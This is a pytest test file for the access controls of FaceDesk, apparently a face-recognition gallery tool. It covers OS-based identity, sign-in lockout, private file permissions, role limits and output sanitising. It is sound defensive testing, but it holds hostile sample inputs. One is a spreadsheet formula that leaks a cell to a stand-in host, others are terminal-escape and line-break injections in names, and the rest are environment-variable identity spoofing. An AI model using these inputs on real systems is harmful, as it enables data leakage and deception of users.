"""Identity and access that hold against a hostile user of the same workstation (issue 14):
identity from the OS, sign-in that resists guessing, files readable by their owner only,
roles that hold for reading, one line instead of a traceback, and manifests with absolute
paths. Real gallery files, the fake engine, the real CLI (CliRunner, and a subprocess
where the process's identity is the point)."""

from __future__ import annotations

import contextlib
import csv
import grp
import json
import os
import pwd
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from accountability import PASSWORDS, PURPOSE, World, build_template, last_event, open_world
from fakes import FAKE_FACTORY, one_face, save_png
from test_cli_accountability import PASSWORDS as CLI_PASSWORDS
from test_cli_accountability import make_run, ok, refused

from facedesk.app import accounts, audit, cases
from facedesk.app.importer import ImportOptions, run_import
from facedesk.domain import plots, private
from facedesk.engine.spec import EngineSpec
from facedesk.errors import AccountError, LeadError, NotPermitted
from facedesk.store import Gallery
from facedesk.store.encodings import EncodingCache, encoding_cache_path

#: the CLI fixtures (fake_cli, db, probe, staffed) of the accountability CLI tests
pytest_plugins = ["test_cli_accountability"]

REPO = Path(__file__).resolve().parents[2]
IDENTITY_VARS = ("LOGNAME", "USER", "USERNAME", "LNAME")


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_template(tmp_path_factory.mktemp("access"))


@pytest.fixture
def world(template: Path, tmp_path: Path) -> Iterator[World]:
    w = open_world(template, tmp_path)
    yield w
    w.gallery.close()


def me() -> str:
    return pwd.getpwuid(os.geteuid()).pw_name


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- 1. identity from the operating system ------------------------------------------------------


def test_the_os_account_is_the_effective_uids_never_the_environment(
        monkeypatch: pytest.MonkeyPatch) -> None:
    for var in IDENTITY_VARS:
        monkeypatch.setenv(var, "os-sam")
    assert accounts.os_account() == me() != "os-sam"


def _cli(args: list[str], env_extra: dict[str, str]) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("FACEDESK_") and k not in IDENTITY_VARS}
    env.update(env_extra)
    return subprocess.run([sys.executable, "-m", "facedesk", *args], env=env, cwd=REPO,
                          capture_output=True, text=True, timeout=120)


def test_environment_variables_do_not_make_the_cli_another_user(world: World) -> None:
    """LOGNAME=<a supervisor's mapped account> facedesk leads review ... confirmed a lead
    as that supervisor. Now the CLI signs in as the user mapped to the real account."""
    g = world.gallery
    ann = world.session("ann")
    case = cases.open_case(ann, "ENV-1", PURPOSE)
    lead = cases.decide(ann, world.search(ann, case).id, 1, "possible_lead", "ear shape")
    world.session("admin").change_user("abe", os_account=me())  # this process: abe
    g.close()
    spoof = dict.fromkeys(IDENTITY_VARS, "os-sam")
    res = _cli(["leads", "review", str(lead.id), "--db", str(g.path), "--verdict",
                "confirmed", "--rationale", "same ear"], spoof)
    assert res.returncode == 1 and "abe (Analyst) may not" in res.stderr, res.stderr
    assert "Traceback" not in res.stderr
    with Gallery.open(g.path) as again:
        assert cases.get_decision(again, lead.id).status == "pending"
        signed = [e.user_id for e in audit.events(again, kinds=["sign_in"])]
        assert signed[-1] == "abe" and "sam" not in signed
        # and with no FaceDesk user mapped to the real account: refused, as nobody
        accounts.sign_in_os(again, "os-admin").change_user("abe", os_account="os-abe")
    res = _cli(["case", "list", "--db", str(g.path)], spoof)
    assert res.returncode == 1 and f"OS account '{me()}' is not mapped" in res.stderr
    with Gallery.open(g.path) as again:
        assert last_event(again).kind == "sign_in_failed"
        assert "sam" not in [e.user_id for e in audit.events(again, kinds=["sign_in"])]


# --- 2. sign-in that resists guessing -----------------------------------------------------------


@pytest.fixture
def quick(world: World, fake_cli: None) -> World:
    """`world` with ann's password hashed at the cheap cost `fake_cli` sets (the template's
    hashes have Argon2's default cost: half a second per attempt)."""
    world.session("admin").change_user("ann", password=PASSWORDS["ann"])
    return world


def refusal(g: Gallery, user_id: str, password: str, now: float | None = None) -> str:
    with pytest.raises(AccountError) as exc:
        accounts.sign_in(g, user_id, password, now=now)
    return exc.value.message


def lock_after_three(world: World, **more: object) -> accounts.Session:
    """The administrator's session, with no back-off and a lock after 3 failures."""
    admin = world.session("admin")
    for name, value in {"backoff_seconds": 0, "lockout_after": 3, **more}.items():
        admin.set_setting(name, value)
    return admin


def test_every_refused_sign_in_gets_the_same_answer(quick: World) -> None:
    world = quick
    g = world.gallery
    admin = lock_after_three(world)
    admin.add_user("dee", "Dee Gone", "analyst", password="plaid-Gazebo-7760")
    admin.change_user("dee", active=False)
    answers = {
        "unknown user": refusal(g, "nobody", "whatever-1234"),
        "wrong password": refusal(g, "ann", "not-Anns-password"),
        "OS-mapped, no password": refusal(g, "abe", "abe-guess-1234"),
        "deactivated": refusal(g, "dee", "plaid-Gazebo-7760"),
    }
    for _ in range(2):
        refusal(g, "ann", "not-Anns-password")
    answers["locked (right password)"] = refusal(g, "ann", PASSWORDS["ann"])
    assert set(answers.values()) == {accounts.SIGN_IN_REFUSED}, answers
    for word in ("os-abe", "deactivated", "locked", "unknown"):
        assert word not in accounts.SIGN_IN_REFUSED


def test_failures_back_off_then_lock_until_an_administrator_unlocks(quick: World) -> None:
    world = quick
    g = world.gallery
    admin = world.session("admin")
    admin.set_setting("lockout_after", 4)
    t = 1_000_000.0
    refusal(g, "ann", "guess-Number-1", now=t)
    # 1 s of back-off after the first failure: even the right password is not checked
    refusal(g, "ann", PASSWORDS["ann"], now=t + 0.5)
    ev = last_event(g)
    assert (ev.data["user"], ev.data["why"]) == ("ann", "back-off")
    refusal(g, "ann", "guess-Number-2", now=t + 1.1)  # 2nd failure: 2 s
    refusal(g, "ann", PASSWORDS["ann"], now=t + 2.5)
    refusal(g, "ann", "guess-Number-3", now=t + 3.2)  # 3rd failure: 4 s
    refusal(g, "ann", "guess-Number-4", now=t + 7.3)  # 4th: locked
    ev = last_event(g)
    assert (ev.data["failures"], ev.data["locked"]) == (4, True)
    assert set(accounts.locked_users(g, now=t + 10)) == {"ann"}
    refusal(g, "ann", PASSWORDS["ann"], now=t + 60)
    assert last_event(g).data["why"] == "locked"
    # the state is in the gallery: another process (another Gallery object) sees it
    with Gallery.open(g.path) as other:
        refusal(other, "ann", PASSWORDS["ann"], now=t + 61)
    # the administrator lifts it, logged
    admin.unlock_user("ann")
    assert (last_event(g).kind, last_event(g).data) == \
        ("user_unlocked", {"user": "ann", "failures": 4})
    assert accounts.sign_in(g, "ann", PASSWORDS["ann"], now=t + 62).user.id == "ann"
    with pytest.raises(AccountError, match="no failed sign-ins"):
        admin.unlock_user("ann")
    with pytest.raises(NotPermitted):
        world.session("sam").unlock_user("ann")


def test_a_lock_lifts_after_the_administrators_duration(quick: World) -> None:
    world = quick
    g = world.gallery
    admin = lock_after_three(world, lockout_minutes=10)
    t = 2_000_000.0
    for i in range(3):
        refusal(g, "ann", f"guess-Number-{i}", now=t + i)
    refusal(g, "ann", PASSWORDS["ann"], now=t + 9 * 60)
    assert accounts.sign_in(g, "ann", PASSWORDS["ann"], now=t + 11 * 60).user.id == "ann"
    # lockout_minutes none: only an administrator lifts it
    admin.set_setting("lockout_minutes", None)
    for i in range(3):
        refusal(g, "ann", f"guess-Number-{i}", now=t + 1000 + i)
    refusal(g, "ann", PASSWORDS["ann"], now=t + 10**7)
    # a success resets the count: the next failure starts from one again
    admin.unlock_user("ann")
    accounts.sign_in(g, "ann", PASSWORDS["ann"], now=t + 10**7 + 1)
    refusal(g, "ann", "guess-Number-9", now=t + 10**7 + 2)
    assert accounts.failure_state(g, "ann").failures == 1


def test_a_refused_name_is_logged_only_when_it_is_a_user_id(quick: World) -> None:
    world = quick
    g = world.gallery
    typed = "Tr0ub4dor&3-typed-in-the-name-field"
    refusal(g, typed, "")
    ev = last_event(g)
    assert ev.data["user"] is None and ev.data["why"] == "unknown user"
    assert typed not in json.dumps(ev.as_dict()) and typed not in json.dumps(
        [list(r) for r in g.conn.execute("SELECT * FROM meta")])
    # a keyed hash: the same name twice gives the same value, another name another
    refusal(g, typed, "")
    refusal(g, "someone-else", "")
    hashes = [e.data["name_hash"] for e in audit.events(g, kinds=["sign_in_failed"])[-3:]]
    assert hashes[0] == hashes[1] != hashes[2]
    assert hashes[0] == accounts.refused_name_hash(g, typed)


@pytest.mark.parametrize(("password", "why"), [
    ("aaaaaaaa", "too easy to guess"),
    ("password", "too easy to guess"),
    ("Password1", "too easy to guess"),
    ("qwertyuiop", "too easy to guess"),
    ("kim2024!kim", "may not contain the user's name or user id ('kim')"),
    ("kimberly-Lantern-77", "may not contain the user's name"),
    ("short", "at least 8 characters"),
])
def test_weak_passwords_are_refused_with_a_clear_message(quick: World, password: str,
                                                         why: str) -> None:
    world = quick
    admin = world.session("admin")
    with pytest.raises(AccountError, match="password") as exc:
        admin.add_user("kim", "Kimberly Kay", "analyst", password=password)
    assert why in exc.value.message
    assert accounts.user(world.gallery, "kim") is None
    admin.add_user("kim", "Kimberly Kay", "analyst", password="plaid-Gazebo-7760")
    with pytest.raises(AccountError, match="password"):
        admin.change_user("kim", password=password)


def test_users_unlock_on_the_command_line(fake_cli: None, staffed: Path) -> None:
    run = make_run(staffed)
    ok(run("settings", "set", "lockout_after", "3", user="admin"))
    for _ in range(3):
        refused(run("case", "list", user="ann", password="guess-Number-1"),
                accounts.SIGN_IN_REFUSED)
    refused(run("case", "list", user="ann"), accounts.SIGN_IN_REFUSED)
    assert "locked after failed sign-ins" in ok(run("users", "list", user="admin")).stdout
    refused(run("users", "unlock", "ann", user="sam"), "may not add or change users")
    assert "unlocked" in ok(run("users", "unlock", "ann", user="admin")).stdout
    ok(run("case", "list", user="ann"))


# --- 3. galleries and what FaceDesk writes: readable by their owner only ------------------------


@pytest.fixture
def loose_umask() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_a_new_gallery_and_its_sidecars_are_private(tmp_path: Path, loose_umask: None,
                                                   fake_spec: EngineSpec,
                                                   people_dir: Path) -> None:
    path = tmp_path / "new" / "g.db"
    with Gallery.open(path, create=True) as g:
        for _ in run_import(g, people_dir, engine=fake_spec, options=ImportOptions(workers=1)):
            pass
        sidecars = [path.with_name(path.name + s) for s in ("-wal", "-shm")]
        assert all(p.exists() for p in sidecars)
        assert [mode(p) for p in (path, *sidecars)] == [0o600] * 3
        assert mode(path.parent) == 0o700  # the folder FaceDesk made
        assert EncodingCache(encoding_cache_path(path)).write(g.load_encodings(), g.gallery_id)
        assert mode(encoding_cache_path(path)) == 0o600


def test_an_existing_gallery_readable_by_others_is_warned_about(
        tmp_path: Path, loose_umask: None, fake_cli: None, imported: Gallery) -> None:
    path = imported.path
    imported.close()
    os.chmod(path, 0o644)
    res = ok(make_run(path)("info"))
    warned = [line for line in res.stderr.splitlines() if "other users" in line]
    assert len(warned) == 1 and "chmod 600" in warned[0] and "644" in warned[0]
    os.chmod(path, 0o600)
    assert "other users" not in ok(make_run(path)("info")).stderr


def test_an_administrator_may_share_the_gallery_with_a_group(world: World,
                                                              monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    g = world.gallery
    group = grp.getgrgid(os.getegid()).gr_name  # a group this process may give files to
    admin = world.session("admin")
    with pytest.raises(AccountError, match="no OS group"):
        admin.set_setting("file_group", "no-such-group-here")
    with pytest.raises(NotPermitted):
        world.session("sam").set_setting("file_group", group)
    admin.set_setting("file_group", group)
    ev = last_event(g)
    assert (ev.kind, ev.data["setting"], ev.data["to"]) == ("setting_changed", "file_group",
                                                            group)
    files = private.gallery_files(g.path)
    assert len(files) >= 2 and {mode(p) for p in files} == {0o660}
    assert {p.stat().st_gid for p in files} == {os.getegid()}
    warned: list[str] = []
    monkeypatch.setattr(private, "warn", warned.append)
    private._warned.clear()
    with Gallery.open(g.path):
        pass
    assert warned == []  # shared with the group the administrator named: no warning
    admin.set_setting("file_group", None)
    assert {mode(p) for p in private.gallery_files(g.path)} == {0o600}


# --- 4. roles that hold for reading -------------------------------------------------------------


def _blind_pending(world: World) -> dict:
    ann = world.session("ann")
    world.session("admin").set_setting("blind_second_review", True)
    case = cases.open_case(ann, "BLIND-1", PURPOSE)
    return cases.decide(ann, world.search(ann, case).id, 1, "possible_lead",
                        "SECRET-RATIONALE ear")


def test_an_audit_export_never_shows_a_hidden_rationale(world: World, tmp_path: Path) -> None:
    lead = _blind_pending(world)
    for who in ("sam", "admin"):
        with pytest.raises(LeadError, match="blind second review") as exc:
            cases.export_audit(world.session(who), tmp_path / who)
        assert f"decision {lead.id}" in exc.value.message
        assert not (tmp_path / who).exists() or not any((tmp_path / who).iterdir())
    cases.review_lead(world.session("sam"), lead.id, "confirmed", "same ear", blind=True)
    cases.export_audit(world.session("admin"), tmp_path / "after")
    assert "SECRET-RATIONALE" in (tmp_path / "after" / "audit-log.json").read_text()


def test_the_cli_export_refuses_while_a_rationale_is_hidden(world: World, fake_cli: None,
                                                            tmp_path: Path) -> None:
    _blind_pending(world)
    world.session("admin").change_user("sam", password="granite-Pepper-3391")
    world.gallery.close()
    run = make_run(world.gallery.path)
    refused(run("audit", "export", "--out", tmp_path / "x", user="sam",
                password="granite-Pepper-3391"), "blind second review is on")
    for path in (tmp_path / "x").glob("*"):
        assert "SECRET-RATIONALE" not in path.read_text()


def test_a_trainer_sees_nothing_of_a_real_gallerys_cases(world: World, fake_cli: None) -> None:
    ann = world.session("ann")
    case = cases.open_case(ann, "REAL-1", PURPOSE)
    world.search(ann, case)
    tia = world.session("tia")
    for fn in (lambda: cases.visible_cases(tia), lambda: cases.readable_case(tia, "REAL-1"),
               lambda: cases.readable_events(tia)):
        with pytest.raises(NotPermitted, match="Trainer"):
            fn()
    world.session("admin").change_user("tia", password="saffron-Bridge-1174")
    world.gallery.close()
    run = make_run(world.gallery.path)
    for args in (("case", "show", "REAL-1"), ("case", "list"), ("audit", "show"),
                 ("users", "list"), ("leads", "pending")):
        res = run(*args, user="tia", password="saffron-Bridge-1174")
        refused(res, "tia (Trainer) may not")
        assert "REAL-1" not in res.output
    # in a training gallery, a trainer reads the training cases, and no real one
    with Gallery.open(world.gallery.path) as g:
        admin = accounts.sign_in_os(g, "os-admin")
        admin.set_setting("training", True)
        tia = accounts.sign_in_os(g, "os-tia")
        cases.open_case(tia, "TRAIN-1", PURPOSE)
        assert [c.number for c in cases.visible_cases(tia)] == ["TRAIN-1"]
        with pytest.raises(NotPermitted):
            cases.readable_case(tia, "REAL-1")
        assert all(e.case_id != case.id for e in cases.readable_events(tia))
    out = ok(run("case", "list", user="tia", password="saffron-Bridge-1174")).stdout
    assert "TRAIN-1" in out and "REAL-1" not in out


def test_who_may_decide_on_another_analysts_search(world: World) -> None:
    """The rule: the analyst who made the search, or a supervisor. Another analyst may
    not decide in their place."""
    ann, abe, sam = (world.session(u) for u in ("ann", "abe", "sam"))
    case = cases.open_case(ann, "RULE-1", PURPOSE)
    cs = world.search(ann, case)
    assert cases.may_decide(ann, cases.search_record(world.gallery, cs.id))
    with pytest.raises(NotPermitted, match="only they or a supervisor"):
        cases.decide(abe, cs.id, 1, "possible_lead", "abe's view")
    assert cases.decide(sam, cs.id, 2, "not_the_person", "different chin").reviewer == "sam"
    assert cases.decide(ann, cs.id, 1, "possible_lead", "ear").reviewer == "ann"


def test_the_lab_commands_sign_in_are_logged_and_write_private_files(
        fake_cli: None, staffed: Path, tmp_path: Path, loose_umask: None) -> None:
    run = make_run(staffed)
    out = tmp_path / "lab"
    commands = {
        "report": ("report", "--out", out / "report.html"),
        "evaluate": ("evaluate", "--report", out / "eval.html", "--plots", out / "plots"),
        "experiment": ("experiment", "--sizes", "2,4"),
        "verify": ("verify",),
    }
    for args in commands.values():
        refused(run(*args), "not mapped")  # no one signed in: refused
    for name, args in commands.items():
        ok(run(*args, user="tia", password=CLI_PASSWORDS["tia"]))
        with Gallery.open(staffed) as g:
            ev = last_event(g)
        assert (ev.kind, ev.user_id, ev.data["command"]) == ("lab", "tia", name)
    written = [p for p in out.rglob("*") if p.is_file()]
    assert len(written) >= 4 and {mode(p) for p in written} == {0o600}


def test_exports_are_private(world: World, tmp_path: Path, loose_umask: None) -> None:
    from facedesk.app.lead_sheet import export_lead_sheet

    ann, sam = world.session("ann"), world.session("sam")
    case = cases.open_case(ann, "FILES-1", PURPOSE)
    lead = cases.decide(ann, world.search(ann, case).id, 1, "possible_lead", "ear")
    cases.review_lead(sam, lead.id, "confirmed", "same ear")
    sheets = export_lead_sheet(ann, lead.id, tmp_path / "sheet", ("pdf", "html"))
    head = cases.export_audit(sam, tmp_path / "audit")
    files = [*sheets, Path(head.json), Path(head.csv)]
    assert [mode(p) for p in files] == [0o600] * 4


def test_a_case_with_a_pending_lead_cannot_be_closed_on_the_cli(fake_cli: None, staffed: Path,
                                                               probe: Path) -> None:
    run = make_run(staffed)
    ok(run("case", "open", "P-1", "--purpose", "1", user="ann"))
    doc = json.loads(ok(run("search", probe, "--case", "P-1", "--json", user="ann")).stdout)
    ok(run("decide", "--search", doc["search_id"], "--rank", "1", "--decision",
           "possible_lead", "--rationale", "ear", user="ann"))
    refused(run("case", "close", "P-1", user="ann"), "waiting for a second review",
            "facedesk leads review")
    assert "P-1" in ok(run("case", "list", user="ann")).stdout


# --- 5. one line, never a traceback -------------------------------------------------------------


@contextlib.contextmanager
def read_only(path: Path) -> Iterator[None]:
    """`path` as this process cannot write it: for root (who may write any file) made
    immutable (chattr +i), for anyone else without its write bits and in a folder without
    them (so SQLite cannot make its WAL index there either)."""
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode:
            pytest.skip("root without chattr +i: no way to make a file read-only for root")
        try:
            yield
        finally:
            subprocess.run(["chattr", "-i", str(path)], check=True)
        return
    os.chmod(path, 0o444)
    os.chmod(path.parent, 0o555)
    try:
        yield
    finally:
        os.chmod(path.parent, 0o755)
        os.chmod(path, 0o600)


def test_a_read_only_gallery_opens_for_reading(world: World, fake_cli: None) -> None:
    ann = world.session("ann")
    cases.open_case(ann, "RO-1", PURPOSE)
    world.gallery.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    world.gallery.close()
    path = world.gallery.path
    run = make_run(path)
    with read_only(path):
        before = path.read_bytes()
        res = ok(run("case", "list", user="ann", password=PASSWORDS["ann"]))
        assert "RO-1" in res.stdout
        assert "read-only" in res.stderr and "your sign-in cannot be saved" in res.stderr
        res = run("case", "open", "RO-2", "--purpose", "1", user="ann",
                  password=PASSWORDS["ann"])
        lines = res.stderr.strip().splitlines()
        assert (res.exit_code == 1 and res.exception is None) or \
            isinstance(res.exception, SystemExit), res.exception
        assert lines[-1].startswith("error: ") and "read-only" in lines[-1]
        assert "this change cannot be saved" in lines[-1] and "write access" in lines[-1]
        assert path.read_bytes() == before


def test_a_gallery_damaged_past_its_header_names_the_problem_and_the_way_back(
        world: World, fake_cli: None, probe: Path) -> None:
    g = world.gallery
    g.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    g.close()
    data = bytearray(g.path.read_bytes())
    page = 4096
    for start in range(page, len(data), page):  # every page but the header's
        data[start:start + page] = bytes([0xA5]) * len(data[start:start + page])
    g.path.write_bytes(bytes(data))
    run = make_run(g.path)
    for args in (("case", "show", "X"), ("info",), ("audit", "verify"),
                 ("search", probe, "--case", "X")):
        res = run(*args, user="admin", password=PASSWORDS["admin"])
        line = refused(res)
        assert "damaged" in line and "facedesk restore" in line, line


def test_metadata_is_never_read_as_mathtext() -> None:
    """A metadata value such as "$x^{$" stopped `report --group` (matplotlib read it as
    mathtext and failed to parse it)."""
    fig = plots.group_bars(["$x^{$", "a $5 fee$", "plain"], [0.1, 0.2, 0.3],
                           [0.0, 0.1, 0.2], [0.2, 0.3, 0.4], [3, 4, 5], "FMR of $\\frac$",
                           "per $x^{$")
    png = plots.fig_to_bytes(fig, "png")
    svg = plots.fig_to_bytes(fig, "svg").decode()
    assert png.startswith(b"\x89PNG") and "$x^{$" in svg and "a $5 fee$" in svg


def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(
        world: World, tmp_path: Path) -> None:
    admin = world.session("admin")
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    admin.add_user(evil, "Eve Vil", "analyst", os_account="os-evil")
    accounts.sign_in_os(world.gallery, "os-evil")
    head = cases.export_audit(admin, tmp_path)
    with Path(head.csv).open(encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [c for row in rows for c in row]
    assert "'" + evil in cells and evil not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    from facedesk.domain.csvsafe import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("+1", "-2", "@x", "\x1bq", "ok", 5, -3)] == \
        ["'+1", "'-2", "'@x", "'\x1bq", "ok", "5", "-3"]


def test_control_characters_in_names_are_escaped_in_the_terminal(
        fake_cli: None, tmp_path: Path) -> None:
    photos = tmp_path / "photos"
    save_png(one_face(1, 0), photos / "a.png")
    save_png(one_face(1, 1), tmp_path / "probe.png")
    (photos / "m.csv").write_text('path,person_id,name\na.png,P1,"Bob\r\nFAKE LINE\x1b[2J"\n')
    path = tmp_path / "g.db"
    run = make_run(path)
    ok(run("import", photos / "m.csv", "--workers", "1"))
    with Gallery.open(path) as g:
        accounts.create_first_administrator(g, "admin", "Ada", os_account="os-admin")
        admin = accounts.sign_in_os(g, "os-admin")
        admin.add_user("ann", "Ann", "analyst", password=CLI_PASSWORDS["ann"])
    ok(run("case", "open", "C\x1b[31m-1", "--purpose", "1", user="ann"))
    res = ok(run("search", tmp_path / "probe.png", "--case", "C\x1b[31m-1", user="ann"))
    assert "Bob\\r\\nFAKE LINE\\x1b[2J" in res.stdout
    assert "\x1b" not in res.stdout and "\r" not in res.stdout
    listed = ok(run("case", "list", user="ann")).stdout
    assert "\x1b" not in listed and "C\\x1b[31m-1" in listed
    # the accuracy lab's per-group lines: a metadata value is a name too
    with Gallery.open(path) as g:
        g.conn.execute("UPDATE photos SET metadata = json_set(metadata, '$.sex', ?)",
                       ("F\x1b[2J",))
    res = ok(run("evaluate", "--group", "sex", user="ann"))
    assert "\x1b" not in res.stdout and "F\\x1b[2J" in res.stdout


# --- 6. manifests with absolute paths -----------------------------------------------------------


def test_absolute_paths_under_an_allowed_folder_are_imported(fake_cli: None,
                                                             staffed: Path,
                                                             tmp_path: Path) -> None:
    photos = tmp_path / "booking-system" / "photos"
    for i in range(3):
        save_png(one_face(10 + i, 0), photos / f"{i}.png")
    manifest = tmp_path / "exports" / "m.csv"
    manifest.parent.mkdir()
    manifest.write_text("path,person_id\n" + "".join(
        f"{photos / f'{i}.png'},B{i}\n" for i in range(3)))
    with Gallery.open(staffed) as g:
        events = list(run_import(g, manifest, engine=EngineSpec(FAKE_FACTORY),
                                 options=ImportOptions(workers=1), user_id="ann"))
    # refused rows count in the progress line: 3/3 done, 3 failed, never 0/0
    final = events[-1]
    assert (final.done, final.total, final.counts.failed) == (3, 3, 3)
    assert all(p.code == "outside_folder" and "facedesk import-roots add" in p.reason
               for p in final.problems)
    run = make_run(staffed)
    res = ok(run("import", manifest, "--workers", "1", user="ann"))
    assert "3/3 photos" in res.stderr and "failed 3" in res.stderr
    refused(run("import-roots", "add", photos.parent, user="ann"), "may not change settings")
    ok(run("import-roots", "add", photos.parent, user="admin"))
    assert str(photos.parent.resolve()) in ok(run("import-roots", "list")).stdout
    with Gallery.open(staffed) as g:
        ev = last_event(g)
        assert (ev.kind, ev.data["setting"], ev.data["to"]) == \
            ("setting_changed", "import_roots", [str(photos.parent.resolve())])
    res = ok(run("import", manifest, "--workers", "1", "--json", user="ann"))
    assert json.loads(res.stdout)["imported"] == 3
    # a path outside every allowed folder is still refused
    elsewhere = tmp_path / "elsewhere"
    save_png(one_face(20, 0), elsewhere / "x.png")
    manifest.write_text(f"path,person_id\n{elsewhere / 'x.png'},X1\n")
    doc = json.loads(ok(run("import", manifest, "--workers", "1", "--json",
                            user="ann")).stdout)
    assert doc["imported"] == 0 and doc["problems"][0]["code"] == "outside_folder"
    ok(run("import-roots", "remove", photos.parent, user="admin"))
    assert "none" in ok(run("import-roots", "list")).stdout


def test_private_write_helpers_tighten_an_existing_file(tmp_path: Path,
                                                       loose_umask: None) -> None:
    p = tmp_path / "x.txt"
    p.write_text("old")
    os.chmod(p, 0o644)
    private.write_text(p, "new")
    assert mode(p) == 0o600 and p.read_text() == "new"


# --- the import permission lives in the import use case ----------------------------------------


def test_the_import_use_case_checks_who_imports(world: World, tmp_path: Path) -> None:
    """run_import itself refuses a user who may not import (and nobody, once the gallery has
    users) before anything is read: the CLI and the GUI rely on it."""
    src = tmp_path / "src"
    save_png(one_face(9), src / "P9" / "a.png")
    spec, opts = EngineSpec(FAKE_FACTORY), ImportOptions(workers=1)
    runs = audit.events(world.gallery, kinds=["import"])
    for who, why in ((None, "nobody is signed in"), ("sam", "may not import photos"),
                     ("tia", "trainers work in training galleries only"),
                     ("nobody", "there is no user 'nobody'")):
        with pytest.raises(NotPermitted, match=why):
            next(run_import(world.gallery, src, engine=spec, options=opts, user_id=who))
    assert audit.events(world.gallery, kinds=["import"]) == runs  # nothing was started
    final = list(run_import(world.gallery, src, engine=spec, options=opts, user_id="ann"))[-1]
    assert final.counts.imported == 1
    world.session("admin").set_setting("training", True)
    final = list(run_import(world.gallery, src, engine=spec, options=opts, user_id="tia"))[-1]
    assert final.status == "completed"
